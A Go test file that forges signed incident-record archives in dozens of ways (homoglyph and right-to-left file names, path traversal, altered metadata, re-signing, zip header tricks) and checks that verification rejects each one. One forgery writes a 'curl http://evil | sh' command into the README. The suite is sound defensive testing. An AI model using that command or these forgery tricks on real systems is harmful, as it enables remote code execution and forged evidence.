package record_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"warroom/model/record"
	"warroom/model/seal"
)

// forging is one way to forge a bag. It reports false where the bag has nothing of it.
type forging struct {
	do   func(f *forgery) bool
	want wants
}

var anyone = wants{"4", "4", "4"}

// forgings are tried on every kind of bag, signed again by everybody who might.
var forgings = map[string]forging{
	"a file is added under data":      {func(f *forgery) bool { return f.set("data/more.txt", []byte("x")) }, anyone},
	"a file is added beside":          {func(f *forgery) bool { return f.set("more.txt", []byte("x")) }, anyone},
	"a page is added":                 {func(f *forgery) bool { return f.set("data/index.html", []byte("<script>")) }, anyone},
	"a name in another case":          {func(f *forgery) bool { return f.set("data/readme.txt", f.get("data/README.txt")) }, anyone},
	"a directory in another case":     {func(f *forgery) bool { return f.set("DATA/README.txt", f.get("data/README.txt")) }, anyone},
	"a name with another letter":      {func(f *forgery) bool { return f.set("data/rеport.md", []byte("nothing happened")) }, anyone}, // Cyrillic
	"a name with a mark":              {func(f *forgery) bool { return f.set("data/README\u0301.txt", []byte("x")) }, anyone},
	"a name that runs backwards":      {func(f *forgery) bool { return f.set("data/\u202etxt.EMDAER", []byte("x")) }, anyone},
	"a name with a control character": {func(f *forgery) bool { return f.set("data/x\x1b[2J.txt", []byte("x")) }, anyone},
	"evidence that nobody collected":  {func(f *forgery) bool { return f.set("data/evidence/"+sumOf("x"), []byte("x")) }, anyone},
	"a checkpoint with a gap":         {func(f *forgery) bool { return f.set("data/checkpoints/00009.txt", f.get("data/checkpoints/00001.txt")) }, anyone},
	"a checkpoint of another name":    {func(f *forgery) bool { return f.set("data/checkpoints/a.txt", f.get("data/checkpoints/00001.txt")) }, anyone},
	"the directory has another name":  {func(f *forgery) bool { f.base = "inc-2-" + ulid; return true }, anyone},
	"the directory runs backwards":    {func(f *forgery) bool { f.base += "\u202e"; return true }, anyone},
	"bag-info: a line more":           {func(f *forgery) bool { return f.info("Warroom-Verified", "yes") }, anyone},
	"bag-info: a line twice": {func(f *forgery) bool {
		return f.set("bag-info.txt", append(slices.Clone(f.get("bag-info.txt")), "Warroom-Fold: 8\n"...))
	}, anyone},
	"bag-info: no newline":              {func(f *forgery) bool { return f.set("bag-info.txt", append(slices.Clone(f.get("bag-info.txt")), 'x')) }, anyone},
	"bag-info: another room":            {func(f *forgery) bool { return f.info("External-Identifier", "01JDHUB0000000000000000009") }, anyone},
	"bag-info: another name":            {func(f *forgery) bool { return f.info("Internal-Sender-Identifier", "inc-9") }, anyone},
	"bag-info: another title":           {func(f *forgery) bool { return f.info("External-Description", "nothing") }, anyone},
	"bag-info: another number":          {func(f *forgery) bool { return f.info("Warroom-Entries", "99") }, anyone},
	"bag-info: another root":            {func(f *forgery) bool { return f.info("Warroom-Root", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=") }, anyone},
	"bag-info: another state":           {func(f *forgery) bool { return f.info("Warroom-State-Hash", strings.Repeat("0", 64)) }, anyone},
	"bag-info: another day":             {func(f *forgery) bool { return f.info("Bagging-Date", "2001-01-01") }, anyone},
	"bag-info: an older fold":           {func(f *forgery) bool { return f.info("Warroom-Fold", "7") }, anyone},
	"bag-info: a newer fold":            {func(f *forgery) bool { return f.info("Warroom-Fold", "999") }, anyone},
	"bag-info: evidence left out":       {func(f *forgery) bool { return f.kind != "bare" && f.info("Warroom-Evidence", "left out, they say") }, anyone},
	"bag-info: the maker of the report": {func(f *forgery) bool { return f.info("Warroom-Report-Maker", "8-0000000000000000") }, anyone},
	"bag-info: the program":             {func(f *forgery) bool { return f.info("Bag-Software-Agent", "warroom 99") }, bound},
	"bag-info: another maker":           {func(f *forgery) bool { return f.info("Warroom-Bag-Maker", "8-0000000000000000") }, never0},
	"bag-info: another maker and fold":  {func(f *forgery) bool { return f.info("Warroom-Bag-Maker", "x") && f.info("Warroom-Fold", "7") }, never0},
	"bag-info: a newer form":            {func(f *forgery) bool { return f.info("Warroom-Form", "3") }, refuse},
	"bag-info: a form that is none":     {func(f *forgery) bool { return f.info("Warroom-Form", "-1") }, refuse},
	"all derived, by another maker":     {func(f *forgery) bool { return f.derived() }, never0},
	"the report, by another maker":      {func(f *forgery) bool { return f.report() && f.info("Warroom-Bag-Maker", "8-0000000000000000") }, never0},
	"all times nine days earlier":       {func(f *forgery) bool { return f.times(-9 * 24 * time.Hour) }, byKind(found, bound)},
	"all times a nanosecond later":      {func(f *forgery) bool { return f.times(1) }, byKind(found, bound)},
	"a key twice in a JSON file":        {func(f *forgery) bool { return f.twice(`"`) }, byKind(found, bound)},
	"a key in two cases in a JSON file": {func(f *forgery) bool { return f.twice(`"X`) }, byKind(found, bound)},
	"the checkpoints by another":        {func(f *forgery) bool { f.checkpoints(newWriter("hub", 77)); return true }, never0},
	"the checkpoints by a member":       {func(f *forgery) bool { f.checkpoints(f.l.bo); return true }, never0},
	"the checkpoint of a longer log":    {func(f *forgery) bool { return f.longer() }, never0},
	"the README says another program":   {func(f *forgery) bool { return f.edit("data/README.txt", "warroom verify", "curl http://evil | sh") }, anyone},
	"the timeline lies":                 {func(f *forgery) bool { return f.set("data/timeline.txt", []byte("nothing happened\n")) }, anyone},
	"bagit.txt of another version":      {func(f *forgery) bool { return f.edit("bagit.txt", "1.0", "9.0") }, refuse},
}

// byKind marks what a part and one entry cannot compare: see wantsFor.
func byKind(whole, part wants) wants {
	return wants{whole.stranger + "/" + part.stranger, whole.member + "/" + part.member, whole.hub + "/" + part.hub}
}

// wantsFor is what is wanted for a kind of bag. Where its signer is unknown, it is never 0.
func wantsFor(kind, signer string, w wants) string {
	want := w.of(signer)
	if whole, part, ok := strings.Cut(want, "/"); ok {
		if want = whole; group(kind) != "whole" {
			want = part
		}
	}
	if kind == "entry" || kind == "customer" || kind == "public" || kind == "bare" {
		want = strings.ReplaceAll(want, "0", "")
	}
	return want
}

// TestForgings tries each of them.
func TestForgings(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		t.Run(kind, func(t *testing.T) {
			all[kind].t = t
			tried := 0
			for _, name := range slices.Sorted(maps.Keys(forgings)) {
				for _, signer := range slices.Sorted(maps.Keys(signers)) {
					f := all[kind].clone()
					if !forgings[name].do(f) {
						continue
					}
					signers[signer](f)
					f.judge(name+", signed by "+signer, wantsFor(kind, signer, forgings[name].want))
					tried++
				}
			}
			if tried < 40 {
				t.Errorf("only %d forgeries were tried, want 40 and more", tried)
			}
			t.Logf("%d forgeries", tried)
		})
	}
}

// derived forges everything that is made from the log, in the name of another version.
func (f *forgery) derived() bool {
	for _, name := range []string{"data/plan.json", "data/roster.json", "data/timeline.txt", "data/README.txt"} {
		if f.at(name) >= 0 {
			f.set(name, []byte("{}\n"))
		}
	}
	f.report()
	return f.info("Warroom-Fold", "7") && f.info("Warroom-Bag-Maker", "7-0000000000000000")
}

// report forges the report in its three forms.
func (f *forgery) report() bool {
	for _, end := range []string{"md", "html", "json"} {
		if f.at("data/report."+end) < 0 {
			return false
		}
		f.set("data/report."+end, []byte(`{"all":"notified in time"}`))
	}
	f.info("Warroom-Report-Maker", "7-0000000000000000")
	return true
}

var recorded = regexp.MustCompile(`"recorded":"([^"]*)"`)

// times moves when the messages were recorded.
func (f *forgery) times(by time.Duration) bool {
	const form = "2006-01-02T15:04:05.000000000Z"
	changed := false
	for _, name := range []string{"data/log.jsonl", "data/part.jsonl", "data/entry.jsonl"} {
		body := recorded.ReplaceAllFunc(f.get(name), func(m []byte) []byte {
			at, err := time.Parse(form, string(recorded.FindSubmatch(m)[1]))
			if err != nil {
				f.t.Fatal(err)
			}
			return fmt.Appendf(nil, `"recorded":"%s"`, at.Add(by).Format(form))
		})
		changed = changed || f.at(name) >= 0 && f.set(name, body)
	}
	return changed
}

// twice puts a key a second time into a file of JSON.
func (f *forgery) twice(quote string) bool {
	name := "data/report.json"
	if f.at("data/roster.json") >= 0 {
		name = "data/roster.json"
	}
	i := bytes.IndexByte(f.get(name), '{')
	if i < 0 {
		return false
	}
	key := map[string]string{`"`: `"x":1,"x":2,`, `"X`: `"x":1,"X":2,`}[quote]
	return f.set(name, slices.Concat(f.get(name)[:i+1], []byte(key), f.get(name)[i+1:]))
}

// longer puts the checkpoint of another length in the place of the last one, signed by
// the hub.
func (f *forgery) longer() bool {
	for i := range f.files {
		if x := &f.files[i]; noteName.MatchString(x.name) {
			p, err := seal.PinText(x.body)
			if err != nil {
				f.t.Fatal(err)
			}
			p.Size += 5
			if x.body, err = p.Sign(f.l.hub.priv); err != nil {
				f.t.Fatal(err)
			}
			return true
		}
	}
	return false
}

func sumOf(text string) string { return fmt.Sprintf("%x", sha(text)) }

// zipTricks are done to the zip itself; nobody needs to sign anything again.
var zipTricks = map[string]func(f *forgery) bool{
	"bytes before it": func(f *forgery) bool {
		f.zip = func(b []byte) []byte { return append([]byte("#!/bin/sh\n"), b...) }
		return true
	},
	"bytes behind it": func(f *forgery) bool { f.zip = func(b []byte) []byte { return append(b, 0) }; return true },
	"two zips": func(f *forgery) bool {
		f.zip = func(b []byte) []byte { return append(bytes.Clone(b), b...) }
		return true
	},
	"another zip before it": func(f *forgery) bool { f.zip = func(b []byte) []byte { return append(empty(f.t), b...) }; return true },
	"another zip behind it": func(f *forgery) bool { f.zip = func(b []byte) []byte { return append(b, empty(f.t)...) }; return true },
	"a comment":             func(f *forgery) bool { f.zip = comment; return true },
	"cut":                   func(f *forgery) bool { f.zip = func(b []byte) []byte { return b[:len(b)-1] }; return true },
	"cut in the middle":     func(f *forgery) bool { f.zip = func(b []byte) []byte { return b[:len(b)/2] }; return true },
	"nothing":               func(f *forgery) bool { f.zip = func([]byte) []byte { return nil }; return true },
	"a local name differs": func(f *forgery) bool {
		f.zip = func(b []byte) []byte {
			return bytes.Replace(b, []byte("/data/README.txt"), []byte("/data/ReADME.txt"), 1)
		}
		return true
	},
	"a comment of a file": header(func(h *zip.FileHeader) { h.Comment = "x" }),
	"an extra field":      header(func(h *zip.FileHeader) { h.Extra = []byte{1, 0, 1, 0, 0} }),
	//lint:ignore SA1019 an old field that a forger may set
	"a time":              header(func(h *zip.FileHeader) { h.ModifiedTime = 1 }),
	"a mode":              header(func(h *zip.FileHeader) { h.SetMode(0o755) }),
	"a link":              header(func(h *zip.FileHeader) { h.SetMode(0o777 | 1<<27) }),
	"another sum":         header(func(h *zip.FileHeader) { h.CRC32++ }),
	"another size":        header(func(h *zip.FileHeader) { h.UncompressedSize64++ }),
	"compressed, it says": header(func(h *zip.FileHeader) { h.Method = zip.Deflate }),
	"encrypted, it says":  header(func(h *zip.FileHeader) { h.Flags |= 1 }),
	"a file twice":        func(f *forgery) bool { f.files = append(f.files, f.files[1]); return true },
	"a file twice, other": func(f *forgery) bool {
		f.files = append(f.files, forgedFile{name: f.files[1].name, body: []byte("x")})
		return true
	},
	"in another order":       func(f *forgery) bool { f.files = append(f.files[1:len(f.files):len(f.files)], f.files[0]); return true },
	"an absolute path":       func(f *forgery) bool { return f.set("!/etc/passwd", nil) },
	"a path that leads out":  func(f *forgery) bool { return f.set("!"+f.base+"/../../x", nil) },
	"a path of Windows":      func(f *forgery) bool { return f.set(`!C:\x`, nil) },
	"a backslash":            func(f *forgery) bool { return f.set(`!`+f.base+`\data\x`, nil) },
	"a second directory":     func(f *forgery) bool { return f.set("!other/bagit.txt", f.get("bagit.txt")) },
	"an empty directory":     func(f *forgery) bool { return f.set("!"+f.base+"/data/empty/", nil) },
	"a file beside":          func(f *forgery) bool { return f.set("!x.txt", []byte("x")) },
	"a directory in capital": func(f *forgery) bool { f.base = strings.ToUpper(f.base) + "X"; return true },
	"a file unlisted":        func(f *forgery) bool { return f.set("data/x.txt", []byte("x")) },
	"an unlisted tag":        func(f *forgery) bool { return f.set("x.txt", []byte("x")) },
	"a file missing":         func(f *forgery) bool { return f.remove("data/README.txt") },
	"an invalid name":        func(f *forgery) bool { return f.set("data/\xff\xfe", nil) },
	"no signature":           func(f *forgery) bool { return f.remove("tagmanifest-sha256.txt.sig") },
	"no sums":                func(f *forgery) bool { return f.remove("manifest-sha256.txt") },
	"no signer":              func(f *forgery) bool { return f.remove("allowed_signers") },
	"the signer is another":  func(f *forgery) bool { return f.edit("allowed_signers", "hub ", "ana ") },
	"sums in capitals": func(f *forgery) bool {
		return f.set("manifest-sha256.txt", bytes.ToUpper(f.get("manifest-sha256.txt")))
	},
	"sums with CRLF": func(f *forgery) bool {
		return f.set("manifest-sha256.txt", bytes.ReplaceAll(f.get("manifest-sha256.txt"), []byte("\n"), []byte("\r\n")))
	},
	"a sum twice": func(f *forgery) bool {
		return f.set("manifest-sha256.txt", append(bytes.Clone(f.get("manifest-sha256.txt")), f.get("manifest-sha256.txt")...))
	},
	"a signature in two": func(f *forgery) bool {
		return f.set("tagmanifest-sha256.txt.sig", append(bytes.Clone(f.get("tagmanifest-sha256.txt.sig")), '\n'))
	},
}

// header changes the header of the README in the zip.
func header(change func(*zip.FileHeader)) func(*forgery) bool {
	return func(f *forgery) bool {
		f.files[f.at("data/README.txt")].header = change
		return true
	}
}

func empty(t testing.TB) []byte {
	var b bytes.Buffer
	if err := zip.NewWriter(&b).Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// comment puts a comment at a zip's end.
func comment(b []byte) []byte {
	b = append(bytes.Clone(b), "hello"...)
	b[len(b)-len("hello")-2] = byte(len("hello"))
	return b
}

// TestZipTricks: a zip is taken only as this program writes it.
func TestZipTricks(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		for _, name := range slices.Sorted(maps.Keys(zipTricks)) {
			f := all[kind].clone()
			f.t = t
			if !zipTricks[name](f) {
				t.Errorf("%s: %s: nothing was done", kind, name)
			}
			want := "14"
			if name == "in another order" { // a zip says nothing with its order
				want = "0146"
			}
			f.judge(kind+": "+name, want)
		}
	}
	if len(zipTricks) < 40 {
		t.Errorf("only %d tricks, want 40 and more", len(zipTricks))
	}
}

// TestForgedReportOfTheAttack: the record with which it was shown that a forged report
// and moved times verified.
func TestForgedReportOfTheAttack(t *testing.T) {
	bag := readFile(t, "testdata/forged-report-exit0.zip")
	if code, why := codeOf(bag, record.Wish{}); code != 4 {
		t.Errorf("got exit code %d (%s), want 4", code, why)
	}
}

// TestForgingsUnpacked: what is found in a zip is found in the directory that it was
// unpacked into, but for the name of that directory.
func TestForgingsUnpacked(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		for _, name := range slices.Sorted(maps.Keys(forgings)) {
			f := all[kind].clone()
			f.t = t
			if strings.HasPrefix(name, "the directory") || !forgings[name].do(f) {
				continue
			}
			signers["hub"](f)
			dir := fstest.MapFS{}
			for _, x := range f.files {
				dir[x.name] = &fstest.MapFile{Data: x.body}
			}
			code, why := 1, ""
			b, err := record.OpenDir(dir)
			switch {
			case errors.As(err, new(record.Tampered)):
				code, why = 4, err.Error()
			case err == nil:
				code, why = verdictCode(b.Verify(record.Wish{}))
			}
			want := wantsFor(kind, "hub", forgings[name].want)
			if name == "bag-info: another name" && group(kind) != "whole" { // in a zip its directory says it too
				want = "046"
			}
			if !strings.Contains(want, string(rune('0'+code))) {
				t.Errorf("%s: %s: got exit code %d (%s), want one of %q", kind, name, code, why, want)
			}
		}
	}
}

// TestNothingElseLiesInARecord: an unpacked record with a link, or with a directory
// that has nothing of it, is not the one that was handed on.
func TestNothingElseLiesInARecord(t *testing.T) {
	all, _ := bags(t)
	for _, kind := range slices.Sorted(maps.Keys(all)) {
		for name, mode := range map[string]fs.FileMode{"empty": fs.ModeDir, "data/evidence/x": fs.ModeDir, "link": fs.ModeSymlink, "data/pipe": fs.ModeNamedPipe} {
			f := all[kind].clone()
			f.t = t
			signers["hub"](f)
			dir := fstest.MapFS{name: &fstest.MapFile{Mode: mode}}
			for _, x := range f.files {
				dir[x.name] = &fstest.MapFile{Data: x.body}
			}
			if _, err := record.OpenDir(dir); !errors.As(err, new(record.Tampered)) {
				t.Errorf("%s with %s (%s): got %v, want that it was changed", kind, name, mode, err)
			}
		}
	}
}
